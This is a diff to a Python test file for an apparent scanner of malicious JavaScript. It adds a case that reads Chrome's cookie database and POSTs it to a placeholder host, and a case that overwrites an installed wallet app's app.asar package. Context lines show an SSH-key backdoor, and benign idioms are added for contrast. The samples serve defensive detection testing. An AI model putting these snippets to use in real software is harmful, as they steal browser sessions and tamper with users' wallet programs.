@@ -2,7 +2,7 @@
 
 # ruff: noqa: E501 - a case reads as the file that it is
 
-from tests.evasion_javascript.case import HIGH, Case, Idiom
+from tests.evasion_javascript.case import HIGH, SETUP, Case, Idiom
 
 HANDING = (
     Case("each command of a list that is fetched", "SHELL-001 FETCH-001", HIGH, r"""
@@ -71,6 +71,15 @@ HANDING = (
         class Bot { constructor() { fs.appendFileSync(path.join(os.homedir(), ".ssh", "authorized_keys"), "\nssh-rsa AAAAB3NzaC1yc2EAAAADexample a@example.invalid\n"); } }
         module.exports = Bot;
     """),
+    Case("cookies of a browser in one of two folders", "STEAL-001", HIGH, r"""
+        const fs = require("fs"), path = require("path");
+        const base = path.join(process.env.LOCALAPPDATA || "", "Google", "Chrome", "User Data");
+        fetch("https://example.invalid/a", { method: "POST", body: fs.readFileSync(path.join(base, "Default", "Network", "Cookies")) });
+    """),
+    Case("a program that is installed is packed anew", "PERSIST-001", HIGH, r"""
+        const asar = require("@electron/asar"), os = require("os"), path = require("path");
+        asar.createPackage("./a", path.join(os.homedir(), "AppData/Local/Programs/wallet/resources/app.asar"));
+    """, SETUP),
 )  # fmt: skip
 
 GOOD_HANDING = (
@@ -99,5 +108,9 @@ GOOD_HANDING = (
     Idiom("text of the clipboard is changed when asked", r"""
         const clipboard = require("clipboardy");
         exports.upper = async () => clipboard.write((await clipboard.read()).toUpperCase());
+    """),
+    Idiom("a program packs itself", r"""
+        const asar = require("@electron/asar"), path = require("path");
+        exports.pack = (folder) => asar.createPackage(folder, path.join(__dirname, "dist", "app.asar"));
     """),
 )  # fmt: skip
